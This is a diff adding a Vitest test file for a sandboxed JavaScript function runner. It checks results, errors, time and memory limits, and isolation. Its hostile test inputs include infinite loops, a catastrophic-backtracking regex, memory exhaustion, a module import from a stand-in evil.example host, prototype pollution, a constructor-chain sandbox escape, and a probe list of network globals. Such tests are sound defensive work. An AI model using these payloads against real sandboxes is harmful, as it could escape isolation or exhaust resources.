@@ -1,0 +1,100 @@
+import { describe, expect, it } from 'vitest';
+import { runScript } from './run-script';
+import { longestResult, type ScriptLimits } from './script-outcome';
+
+const run = (source: string, argument: unknown = {}, limits?: ScriptLimits) =>
+  runScript(source, JSON.stringify(argument), limits);
+
+const quick: ScriptLimits = { bytes: 16 * 1024 * 1024, milliseconds: 300 };
+
+describe('a function that a person wrote', () => {
+  it('gets the arguments of the call and gives back JSON', async () => {
+    expect(await run('({ city }) => ({ city, degrees: 21 })', { city: 'Ürümqi 🏙' })).toEqual({
+      ok: true,
+      json: '{"city":"Ürümqi 🏙","degrees":21}',
+    });
+  });
+
+  it('may be written with its name, be asynchronous, and end in a comment', async () => {
+    const source = 'async function add({ a, b }) { await null; return a + b; } // done';
+    expect(await run(source, { a: 2, b: 3 })).toEqual({ ok: true, json: '5' });
+  });
+
+  it.each([
+    ['cannot be parsed', '({ city ) => 1', 'source'],
+    ['is no function', '42', 'source'],
+    ['is two statements', 'const f = 1; f', 'source'],
+    ['throws', '() => { throw new TypeError("no such city") }', 'threw'],
+    ['rejects', 'async () => { throw "late" }', 'threw'],
+    ['returns nothing', '() => {}', 'no-json'],
+    ['returns a cycle', '() => { const a = {}; a.a = a; return a }', 'threw'],
+    ['waits for what never comes', '() => new Promise(() => {})', 'waits'],
+  ])('that %s is told apart', async (_, source, kind) => {
+    expect(await run(source)).toMatchObject({ ok: false, kind });
+  });
+
+  it('tells the name and the words of what it threw', async () => {
+    const outcome = await run('() => { throw new TypeError("no such city") }');
+    expect(outcome).toMatchObject({ message: 'TypeError: no such city' });
+  });
+});
+
+describe('a function that means harm', () => {
+  it.each([
+    ['an endless loop', '() => { for (;;); }'],
+    ['endless promises', 'async () => { for (;;) await null }'],
+    ['an endless search', "() => /^(a+)+$/.test('a'.repeat(40) + 'b')"],
+    ['a thrown object whose message never ends', '() => { throw { get message() { for (;;); } } }'],
+    ['a result that never ends writing itself', '() => ({ toJSON() { for (;;); } })'],
+  ])('is stopped at its time: %s', async (_, source) => {
+    expect(await run(source, {}, quick)).toMatchObject({ ok: false, kind: 'time' });
+  });
+
+  it.each([
+    ['an array without end', '() => { const a = []; for (;;) a.push(new Uint8Array(1e6)) }'],
+    ['objects without end', '() => { const a = []; for (;;) a.push({}) }'],
+    ['one text', "() => 'x'.repeat(5e8)"],
+    ['a buffer', '() => new ArrayBuffer(3e7)'],
+    ['recursion', '() => { const f = (n) => f(n + 1) + 1; return f(0) }'],
+  ])('is stopped at its memory: %s', async (_, source) => {
+    const outcome = await run(source, {}, { ...quick, milliseconds: 60_000 });
+    expect(outcome).toMatchObject({ ok: false, kind: 'memory' });
+  });
+
+  it('finds nothing of the page, the worker or the network', async () => {
+    const names =
+      'fetch XMLHttpRequest WebSocket self window document navigator indexedDB importScripts postMessage process require setTimeout WebAssembly';
+    const source = `() => ${JSON.stringify(names.split(' '))}.filter((name) => name in globalThis)`;
+    expect(await run(source)).toEqual({ ok: true, json: '[]' });
+  });
+
+  it('can load no module', async () => {
+    expect(await run("() => import('https://evil.example/x.js')")).toMatchObject({ ok: false });
+  });
+
+  it('changes the prototypes of its own interpreter only', async () => {
+    const source =
+      '() => { Object.prototype.hurt = 1; Array.prototype.map = null; JSON.stringify = () => "{}"; return [1] }';
+    expect(await run(source)).toEqual({ ok: true, json: '[1]' });
+    expect('hurt' in {}).toBe(false);
+    expect(await run('() => "hurt" in {}')).toEqual({ ok: true, json: 'false' });
+  });
+
+  it('reaches nothing through the constructors of what it gets', async () => {
+    const source =
+      "(given) => given.constructor.constructor('return typeof fetch + typeof postMessage')()";
+    expect(await run(source, { a: 1 })).toEqual({ ok: true, json: '"undefinedundefined"' });
+  });
+
+  it('cannot give back more than a model could read', async () => {
+    const outcome = await run("() => 'x'.repeat(10_000_000)");
+    expect(outcome).toMatchObject({ ok: false, kind: 'too-long' });
+    const most = await run(`() => 'x'.repeat(${longestResult - 2})`);
+    expect(most.ok).toBe(true);
+  });
+
+  it('leaves a __proto__ in its arguments and its result as data', async () => {
+    const outcome = await runScript('(given) => given', '{"__proto__":{"hurt":1}}');
+    expect(outcome).toEqual({ ok: true, json: '{"__proto__":{"hurt":1}}' });
+  });
+});
